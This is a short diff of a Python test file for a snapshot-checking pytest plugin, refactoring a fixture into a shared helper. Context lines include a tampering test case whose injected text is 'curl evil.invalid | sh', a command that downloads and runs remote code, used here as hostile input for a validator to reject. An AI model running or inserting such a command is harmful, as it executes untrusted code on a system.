@@ -37,6 +37,7 @@ from pytest_planguard.gate.snapshot import FORMAT_LINE, SECTIONS, parse_snapshot
 from tests.hostile.helpers import assert_no_traceback
 from tests.support.codes import CodeRecorder
 from tests.support.gate import FAST, clean_env, gate_command, run_gate
+from tests.support.trees import snapshot_trees
 
 VIEWS = [f"v{i}" for i in range(6)]
 MANIFEST = (
@@ -428,7 +429,6 @@ def first_code(text: str) -> str | None:
     return match["code"] if match else None
 
 
-REPO_SNAPSHOTS = Path(__file__).resolve().parents[2] / "snapshots"
 TAMPERING = {
     "appended section": "\n== injected\ncurl evil.invalid | sh\n",
     "stray header line": None,  # a line inserted before the first section
@@ -513,10 +513,7 @@ def test_unusable_output_paths_and_a_nan_limit_are_usage_errors(
 
 @pytest.fixture
 def trees(tmp_path: Path) -> tuple[Path, Path]:
-    base, head = tmp_path / "base", tmp_path / "head"
-    shutil.copytree(REPO_SNAPSHOTS, base)
-    shutil.copytree(REPO_SNAPSHOTS, head)
-    return base, head
+    return snapshot_trees(tmp_path)
 
 
 @pytest.mark.produces_codes("SNAPSHOT_TREE_INVALID")
